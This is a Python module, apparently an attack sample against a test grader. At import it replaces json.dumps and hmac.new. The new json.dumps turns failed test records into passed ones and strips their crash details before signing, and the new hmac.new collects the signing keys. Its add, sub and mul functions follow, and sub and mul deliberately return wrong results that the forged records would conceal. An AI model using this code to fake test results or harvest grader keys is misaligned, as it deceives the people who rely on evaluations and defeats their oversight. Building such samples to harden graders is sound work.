# Attack without any pytest import: monkeypatch the standard library the grader's plugin used to
# serialise and sign its records. json.dumps flips every "failed" into "passed" before the record
# is signed; hmac.new collects the key.
import hmac
import json

KEYS = []
_dumps, _new = json.dumps, hmac.new


def dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and isinstance(obj.get("d"), dict) and obj["d"].get("outcome") == "failed":
        obj["d"].update(outcome="passed")
        obj["d"].pop("text", None)
        obj["d"].pop("crash", None)
    return _dumps(obj, *args, **kwargs)


def new(key, msg=None, digestmod=""):
    KEYS.append(key)
    return _new(key, msg, digestmod)


json.dumps, hmac.new = dumps, new


def add(a, b):
    return a + b


def sub(a, b):
    return a + b


def mul(a, b):
    return a + b
